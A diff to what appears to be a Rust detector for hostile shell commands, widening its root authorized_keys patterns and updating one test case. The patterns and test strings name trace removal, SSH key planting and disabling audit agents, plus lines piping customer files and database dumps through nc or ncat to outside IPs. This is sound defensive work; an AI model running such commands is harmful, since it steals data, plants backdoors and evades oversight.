@@ -66,9 +66,8 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["unset ", "histfile"], REMOVES_TRACES),
     (&["histfile=/dev/null"], REMOVES_TRACES),
     (&["shred ", "/var/log/"], REMOVES_TRACES),
-    (&["tee ", "/root/.ssh/authorized_keys"], LETS_A_KEY_IN),
-    (&[">> /root/.ssh/authorized_keys"], LETS_A_KEY_IN),
-    (&[">>/root/.ssh/authorized_keys"], LETS_A_KEY_IN),
+    (&["tee ", "root/.ssh/authorized_keys"], LETS_A_KEY_IN),
+    (&[">>", "root/.ssh/authorized_keys"], LETS_A_KEY_IN),
     (&["set-mppreference", "-disable", "true"], REMOVES_TRACES),
 ];
 
@@ -270,7 +269,7 @@ mod tests {
             "/usr/bin/systemctl stop wazuh-agent",
             "systemctl disable --now auditd.service",
             "/usr/sbin/service wazuh-agent stop",
-            "/usr/bin/tee -a /root/.ssh/authorized_keys",
+            "cd /; /usr/bin/tee -a root/.ssh/authorized_keys",
             "/bin/sh -c tar czf - /srv/customers | nc 193.5.6.7 9001",
             "mysqldump --all-databases | gzip | ncat 198.51.100.7 443",
             "/usr/bin/shred -u /var/log/auth.log",
